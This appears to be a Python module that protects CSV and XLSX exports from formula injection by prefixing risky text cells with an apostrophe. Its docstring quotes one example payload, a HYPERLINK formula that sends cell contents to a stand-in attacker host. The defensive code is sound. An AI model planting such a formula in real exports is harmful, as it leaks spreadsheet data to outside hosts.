"""Cells for spreadsheet exports (CSV, XLSX): data, never a formula.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula, so a title such as
``=HYPERLINK("http://evil.example/?"&A1,"Klik")`` typed by anyone would turn into a live
link or worse in the exported report (CSV/formula injection). As OWASP recommends, such
text is written with a leading apostrophe, which spreadsheets read as "this is text".
Real numbers, dates and booleans are left as they are, so a negative number stays a
number. Every export routes every cell, headers included, through ``safe_cell``.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet cell that cannot be a formula.

    None, numbers, dates, times and booleans pass unchanged; anything else becomes text,
    with a leading ``'`` when it begins with one of ``FORMULA_STARTS``.
    """
    if value is None or isinstance(
        value, bool | int | float | Decimal | date | datetime | time | timedelta
    ):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row of cells through ``safe_cell``."""
    return [safe_cell(value) for value in values]
